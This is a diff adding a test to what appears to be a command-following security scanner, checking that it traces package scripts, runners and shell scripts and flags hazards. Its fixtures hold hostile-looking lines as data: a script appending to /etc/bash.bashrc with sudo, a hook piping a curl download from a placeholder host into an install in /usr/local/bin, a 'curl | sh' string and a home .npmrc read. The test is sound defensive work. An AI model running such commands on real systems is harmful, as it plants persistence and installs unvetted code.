@@ -36,3 +36,39 @@ def test_what_a_file_does():
     # a project's own .npmrc is no credential path; the home's is
     assert scan("x.js", "fs.writeFileSync('.npmrc', 'registry=x')\n", "js") == []
     assert scan("x.js", "fs.readFileSync(path.join(os.homedir(), '.npmrc'))\n", "js") != []
+
+
+def test_what_a_command_runs_through_variables_runners_and_scripts(machine):
+    """`$CLAUDE_PROJECT_DIR/x.sh` and `$(dirname "$0")/y.sh` name repository files,
+    `uv run tools/x.py` runs its file, `pnpm fix` runs package.json's script `fix` (and
+    `prefix`); a download unpacked and copied into a bin directory is a program
+    installed; a shell start-up file named through a variable is still one."""
+    import json
+
+    from ztsa.context import Context
+    from ztsa.follow import follow
+
+    machine.ws("package.json", json.dumps({"scripts": {"prefix": "echo go",
+                                                       "fix": "bash tools/fix.sh"}}))
+    machine.ws("tools/fix.sh", "#!/bin/sh\nexec \"$(dirname \"$0\")/inner.sh\"\n")
+    machine.ws("tools/inner.sh", "#!/bin/sh\nrc=/etc/bash.bashrc\necho x | sudo tee -a \"$rc\"\n")
+    machine.ws("tools/x.py", "print('hi')\n")
+    machine.ws("hooks/get.sh", "#!/bin/sh\ncurl -fsSL https://x.invalid/t.tgz | tar -xz\n"
+               "install -m 755 t/bin/t /usr/local/bin/t\n")
+    ctx = Context(machine.host(), str(machine.workspace))
+    done = follow(ctx, "pnpm fix && uv run --with rich tools/x.py", "")
+    assert done.files == ("tools/x.py", "tools/fix.sh", "tools/inner.sh")
+    assert done.commands == ("pnpm fix && uv run --with rich tools/x.py", "echo go",
+                             "bash tools/fix.sh")
+    assert [(h.path, h.line, h.what) for h in done.hazards] == [
+        ("tools/inner.sh", 3, "writes to the shell start-up file /etc/bash.bashrc")]
+    done = follow(ctx, "bash $CLAUDE_PROJECT_DIR/hooks/get.sh", "")
+    assert [(h.path, h.line, h.what.split(" (")[0]) for h in done.hazards] == [
+        ("hooks/get.sh", 3, "installs a downloaded program")]
+    assert [(h.path, h.line) for h in done.downloads] == [("hooks/get.sh", 2)]
+    # an install hint printed is no command; printing does not run it
+    from ztsa.follow import downloader
+
+    assert downloader('echo "install: curl -sSL https://x.invalid | sh"') is None
+    assert downloader('echo "$(curl -s https://x.invalid)"') == "curl"
+    assert downloader("command -v curl >/dev/null || apt-get install curl") is None
